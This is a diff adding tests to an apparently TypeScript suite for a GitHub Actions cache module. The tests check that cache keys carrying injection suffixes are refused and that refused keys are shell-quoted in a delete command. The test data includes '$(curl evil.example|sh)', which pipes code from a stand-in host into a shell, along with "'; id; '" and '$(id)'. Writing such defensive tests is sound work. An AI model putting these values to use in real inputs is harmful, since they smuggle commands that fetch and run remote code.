@@ -94,6 +94,23 @@ describe('the Actions cache', () => {
     expect(await at.cache.restoreFolder(WANTED, at.folder.file('to'), isPart)).toBe('thing-1-b');
   });
 
+  test.each(['$(curl evil.example|sh)', "'; id; '", 'a b', 'a\nDelete it: b', 'a%2eb', '\u202ea'])(
+    'takes no entry whose key ends in %j',
+    async (end) => {
+      await using at = await step();
+      at.service.entries.set(`thing-1-${end}`, Buffer.from('x'));
+      expect(await at.cache.restoreFile(WANTED, at.folder.file('to'))).toBeNull();
+      expect(at.lines).toEqual(['info: Actions cache: a thing: no entry']);
+      expect(at.service.requests).toEqual(['GetCacheEntryDownloadURL']);
+    },
+  );
+
+  test('names a refused entry in a command that a shell reads as it is', async () => {
+    await using at = await step();
+    at.cache.refuse('thing-1-$(id)', 'it is foreign');
+    expect(at.lines.at(-1)).toMatch(/ Delete it: gh cache delete 'thing-1-\$\(id\)'$/);
+  });
+
   const SHORT: CacheLimits = { allMs: 600, answerMs: 100 };
   test.each<[CacheRequest, CacheFault, RegExp]>([
     ['GetCacheEntryDownloadURL', 403, /127\.0\.0\.1 answered 403/],
